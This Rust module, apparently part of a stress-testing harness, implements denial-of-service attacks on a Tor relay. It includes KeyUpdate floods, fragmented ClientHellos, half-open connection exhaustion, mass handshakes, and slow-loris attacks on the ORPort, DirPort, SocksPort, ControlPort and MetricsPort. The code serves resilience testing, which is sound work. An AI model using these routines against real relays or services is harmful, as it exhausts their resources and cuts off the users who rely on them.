//! Attacks by connections: to any port, before anything is proved.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use rand::SeedableRng as _;
use rand_chacha::ChaCha12Rng;

use super::cast::attacker;
use super::definition::{Attack, NO_LEAD};
use super::peer::{BEAT, Peer, connect};
use super::probes::Want;
use super::scene::Scene;
use super::target::Needs;

/// Connections of one slow loris.
const LORIS: usize = 1000;

pub(super) const KEY_UPDATES_BEFORE: Attack = Attack {
    name: "key-updates-before",
    what: "KeyUpdates after the TLS handshake, before anybody is authenticated",
    bound: "the rate",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: |scene| {
        scene.again(|| {
            let socket = connect(attacker(0), scene.aim.address, None)?;
            update_keys(scene, Peer::tls(socket, &scene.cast.client, scene.seed())?)
        });
        Ok(())
    },
};

pub(super) const TLS_FRAGMENTS: Attack = Attack {
    name: "tls-fragments",
    what: "A ClientHello of 16 KiB in TLS records of one byte, again and again",
    bound: "the rate",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: tls_fragments,
};

fn tls_fragments(scene: &Scene<'_>) -> Result<()> {
    let message = [1, 0, 0x40, 0].into_iter().chain([0; 1 << 14]);
    let records: Vec<u8> = message.flat_map(|byte| [22, 3, 1, 0, 1, byte]).collect();
    scene.again(|| {
        let mut socket = connect(attacker(0), scene.aim.address, None)?;
        for some in records.chunks(64 * 6) {
            scene.spend(some.len());
            // The target has seen enough, or takes no more: the next one.
            if scene.is_over() || socket.write_all(some).is_err() {
                break;
            }
            scene.did(64);
        }
        Ok(())
    });
    Ok(())
}

pub(super) const KEY_UPDATES_AFTER: Attack = Attack {
    name: "key-updates-after",
    what: "KeyUpdates on an open link",
    bound: "the rate",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: |scene| {
        scene.again(|| update_keys(scene, scene.client(0)?));
        Ok(())
    },
};

fn update_keys(scene: &Scene<'_>, mut peer: Peer) -> Result<()> {
    while !scene.is_over() {
        let mut bytes = 0;
        for _ in 0..64 {
            bytes += peer.queue_key_update()?;
        }
        scene.spend(bytes);
        scene.did(64);
        peer.pump(Duration::ZERO)?;
        while !peer.is_clear() && !scene.is_over() {
            peer.pump(BEAT)?;
        }
    }
    Ok(())
}

pub(super) const HALF_OPEN_LINKS: Attack = Attack {
    name: "half-open-links",
    what: "Connections to the ORPort that stay silent; one in fifty begins TLS and stops",
    bound: "10,000, or half of the file limit",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: Duration::from_secs(1),
    run: half_open_links,
};

fn half_open_links(scene: &Scene<'_>) -> Result<()> {
    let count = scene.max_connections.min(10_000);
    let mut silent: Vec<TcpStream> = Vec::new();
    let mut begun: Vec<Peer> = Vec::new();
    scene.again(|| {
        while silent.len() + begun.len() < count && !scene.is_over() {
            let number = silent.len() / 200;
            let socket = connect(attacker(number), scene.aim.address, None)?;
            scene.did(1);
            if silent.len() % 50 == 49 && begun.len() * 50 < silent.len() {
                begun.push(Peer::tls(socket, &scene.cast.client, scene.seed())?);
            } else {
                silent.push(socket);
            }
        }
        scene.pause(Duration::from_millis(200));
        // Connections that the target has closed are opened again.
        silent.retain(|socket| {
            let peeked = socket.peek(&mut [0]);
            matches!(peeked, Err(error) if error.kind() == ErrorKind::WouldBlock)
        });
        Ok(())
    });
    Ok(())
}

pub(super) const CLIENT_HELLOS: Attack = Attack {
    name: "client-hellos",
    what: "1,500 ClientHellos at once on as many connections, again and again",
    bound: "1,500 connections, or half of the file limit",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: client_hellos,
};

fn client_hellos(scene: &Scene<'_>) -> Result<()> {
    let count = scene.max_connections.min(1500);
    let mut rng = ChaCha12Rng::seed_from_u64(scene.seed());
    let mut session = scene.cast.client.connect(&mut rng)?;
    let mut hello = Vec::new();
    while session.tls().wants_write() {
        session.tls().write_tls(&mut hello)?;
    }
    scene.again(|| {
        let mut open = Vec::new();
        while open.len() < count && !scene.is_over() {
            let number = open.len() / 200;
            open.push(connect(attacker(number), scene.aim.address, None)?);
        }
        // They wait until the target has accepted all.
        scene.pause(Duration::from_millis(100));
        for socket in &mut open {
            if scene.spend(hello.len()) && socket.write(&hello).is_ok() {
                scene.did(1);
            }
        }
        scene.pause(Duration::from_millis(500));
        Ok(())
    });
    Ok(())
}

/// A slow loris at one port.
macro_rules! loris {
    ($name:literal, $where:literal, $needs:expr, $want:expr, $port:expr, $bytes:expr) => {
        Attack {
            name: $name,
            what: concat!(
                "1,000 connections to the ",
                $where,
                " that each send a byte in a second"
            ),
            bound: "1,000, or half of the file limit",
            needs: $needs,
            want: $want,
            destination: None,
            lead: Duration::from_millis(500),
            run: |scene| {
                let port: fn(&Scene<'_>) -> Option<SocketAddr> = $port;
                slow_loris(scene, port(scene), $bytes)
            },
        }
    };
}

pub(super) const LORIS_OR: Attack = loris!(
    "slow-loris-or",
    "ORPort",
    Needs::RELAY,
    Want::Circuit,
    |scene| Some(scene.aim.address),
    // The beginning of a ClientHello.
    &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]
);
pub(super) const LORIS_DIR: Attack = loris!(
    "slow-loris-dir",
    "DirPort",
    Needs {
        dir_port: true,
        ..Needs::RELAY
    },
    Want::DirPort,
    |scene| scene.ports.directory,
    b"GET /tor/status-vote/current/consensus HTTP/1.0\r\n"
);
pub(super) const LORIS_SOCKS: Attack = loris!(
    "slow-loris-socks",
    "SocksPort",
    Needs {
        socks: true,
        ..Needs::RELAY
    },
    Want::Socks,
    |scene| scene.ports.socks,
    &[5, 255, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9]
);
pub(super) const LORIS_CONTROL: Attack = loris!(
    "slow-loris-control",
    "ControlPort",
    Needs {
        control: true,
        ..Needs::RELAY
    },
    Want::Control,
    |scene| scene.ports.control,
    b"PROTOCOLINFO 1 1 1 1 1 1 1"
);
pub(super) const LORIS_METRICS: Attack = loris!(
    "slow-loris-metrics",
    "MetricsPort",
    Needs {
        metrics: true,
        ..Needs::RELAY
    },
    Want::Metrics,
    |scene| scene.ports.metrics,
    b"GET /metrics HTTP/1.0\r\nHost: loris\r\n"
);

fn slow_loris(scene: &Scene<'_>, to: Option<SocketAddr>, bytes: &[u8]) -> Result<()> {
    let to = to.context("the target has no such port")?;
    let count = scene.max_connections.min(LORIS);
    let mut open: Vec<(TcpStream, usize)> = Vec::new();
    let mut scratch = [0; 4096];
    scene.again(|| {
        let mut began = Instant::now();
        while !scene.is_over() {
            while open.len() < count && !scene.is_over() {
                let socket = connect(attacker(open.len() / 200), to, None)?;
                open.push((socket, 0));
                scene.did(1);
            }
            open.retain_mut(|(socket, sent)| {
                let byte = bytes
                    .get(*sent % bytes.len()..)
                    .and_then(|rest| rest.get(..1));
                *sent += 1;
                let wrote = scene.spend(1) && socket.write(byte.unwrap_or_default()).is_ok();
                let ended = match socket.read(&mut scratch) {
                    Ok(count) => count == 0,
                    Err(error) => error.kind() != ErrorKind::WouldBlock,
                };
                wrote && !ended
            });
            scene.pause(Duration::from_secs(1).saturating_sub(began.elapsed()));
            began = Instant::now();
        }
        Ok(())
    });
    Ok(())
}
